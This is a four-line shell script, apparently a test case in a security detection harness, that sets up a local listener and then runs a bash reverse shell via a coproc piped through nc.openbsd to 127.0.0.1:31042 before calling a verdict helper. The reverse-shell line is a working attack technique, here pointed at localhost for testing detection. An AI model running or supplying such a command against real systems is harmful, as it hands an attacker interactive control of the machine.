. "$CORPUS/lib/common.sh"
attacker listen 31042
bash -c 'coproc nc.openbsd 127.0.0.1 31042; bash <&${COPROC[0]} >&${COPROC[1]} 2>&1' &
verdict
